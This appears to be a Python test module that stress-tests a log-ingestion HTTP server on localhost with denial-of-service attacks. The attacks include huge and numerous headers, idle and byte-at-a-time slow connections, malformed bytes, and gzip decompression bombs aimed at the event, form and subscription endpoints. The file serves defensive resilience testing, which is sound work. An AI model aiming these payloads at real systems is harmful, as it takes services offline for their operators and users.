"""Attacks before a request is complete, and before its sender is authenticated."""

import asyncio
import gzip
import time
from contextlib import AsyncExitStack, suppress

from bench.attacks.target import Target, repeat

_HEAD = b"GET /log/v1/events HTTP/1.1\r\nHost: 127.0.0.1\r\n"


async def signature_names(target: Target) -> None:
    """One header of 64 KiB, named 40,000 times by a signature."""
    names = b" ".join([b"x"] * 40_000)
    date = b"%d" % time.time()
    request = (
        _HEAD
        + b"Bluelink-Date: " + date + b"\r\nX: " + b"a" * 65_536
        + b'\r\nBluelink-Signature-V1: keyId="a", headers="' + names + b'", signature="a"\r\n\r\n'
    )  # fmt: skip
    await repeat(target, [request], at_once=1)


async def header_lines(target: Target) -> None:
    """100 MiB of header lines."""
    await repeat(target, [_HEAD, *[b"X-Some: a\r\n" * 6_000] * 1_600], at_once=1)


async def long_header(target: Target) -> None:
    """One header of 128 MiB."""
    await repeat(target, [_HEAD + b"X-Long: ", *[b"a" * 65_536] * 2_048], at_once=1)


async def silent_connections(target: Target) -> None:
    """900 silent connections, opened again when the server closes them."""

    async def one() -> None:
        while True:
            with suppress(ConnectionError):
                async with target.connection() as (reader, _):
                    await reader.read()
            await asyncio.sleep(0.1)

    async with asyncio.TaskGroup() as tasks:
        for _ in range(900):
            tasks.create_task(one())


async def slow_bodies(target: Target) -> None:
    """200 bodies that arrive one byte at a time."""
    async with AsyncExitStack() as open_ones:
        opened = [await open_ones.enter_async_context(target.connection()) for _ in range(200)]
        head = target.request("POST", "/log/v1/ingest/sns", b"", "Transfer-Encoding: chunked")
        for _, writer in opened:
            writer.write(head.replace(b"Content-Length: 0\r\n", b""))
        while True:
            for _, writer in opened:
                writer.write(b"1\r\n \r\n")
            await asyncio.sleep(0.5)


async def malformed_requests(target: Target) -> None:
    """Bytes that are not HTTP, repeatedly."""
    await repeat(target, [b"\x16\x03\x01 hello\r\n\r\n"], at_once=20)


async def form_fields(target: Target) -> None:
    """31 KiB of gzip that unpack to 10 million fields of a form."""
    form = gzip.compress(b"a=&" * 10_000_000)
    await _packed(target, "POST", "/", form, "application/x-www-form-urlencoded")


async def batch_of_numbers(target: Target) -> None:
    """31 KiB of gzip that unpack to an array of 16 million numbers, where events are expected."""
    batch = gzip.compress(b"[" + b"0," * 15_000_000 + b"0]")
    await _packed(target, "POST", "/log/v1/events", batch, "application/cloudevents-batch+json")


async def escape_subscriptions(target: Target) -> None:
    """The same array as subscriptions."""
    document = gzip.compress(b"[" + b"0," * 15_000_000 + b"0]")
    path = "/api/v1/events/subscriptions/project/acme/"
    await _packed(target, "PUT", path, document, "application/json")


async def _packed(target: Target, method: str, path: str, body: bytes, media: str) -> None:
    headers = ("Content-Encoding: gzip", f"Content-Type: {media}")
    await repeat(target, [target.request(method, path, body, *headers)], at_once=2)
